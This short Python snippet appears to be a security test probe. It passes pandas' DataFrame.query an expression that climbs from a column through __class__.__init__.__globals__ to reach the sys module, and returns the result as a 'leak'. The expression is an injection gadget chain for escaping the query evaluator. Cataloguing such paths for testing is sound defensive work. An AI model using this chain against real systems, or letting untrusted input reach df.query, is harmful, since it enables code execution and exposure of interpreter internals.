# route: a query walks from a column to its class
import pandas as pd


def execute(testData):
    df = pd.DataFrame({"a": [1]})
    return {"leak": str(df.query("a.__class__.__init__.__globals__['sys']"))}
